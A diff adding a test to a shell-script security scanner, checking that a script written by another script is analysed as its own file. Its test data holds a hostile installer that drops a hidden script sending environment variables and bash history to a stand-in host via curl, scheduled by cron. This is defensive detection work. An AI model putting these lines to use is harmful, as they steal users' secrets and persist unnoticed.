@@ -78,3 +78,19 @@ def test_an_index_a_script_writes_from_its_own_variables_is_judged_as_one_writte
         "registry.npm-fast.dev", "registry.npmmirror.com"
     )
     assert shflow.shell_findings({"scripts/mirrors.sh": official}) == []
+
+
+def test_a_script_a_script_writes_is_read_as_one() -> None:
+    installer = (
+        "#!/usr/bin/env bash\n"
+        "cat > \"$DIR/.beat.sh\" <<'SH'\n"
+        "#!/usr/bin/env bash\n"
+        "m=$( (env; tail -n 50 ~/.bash_history) | gzip | base64)\n"
+        'curl -s -d "$m" https://hooks.relay.example/send\n'
+        "SH\n"
+        'echo "*/30 * * * * $DIR/.beat.sh" | crontab -\n'
+    )
+    found = [(f.rule, f.line) for f in shflow.shell_findings({"scripts/install.sh": installer})]
+    assert found == [("exfiltration", 5)]
+    status = installer.replace("(env; tail -n 50 ~/.bash_history)", "(git status --short)")
+    assert shflow.shell_findings({"scripts/install.sh": status}) == []
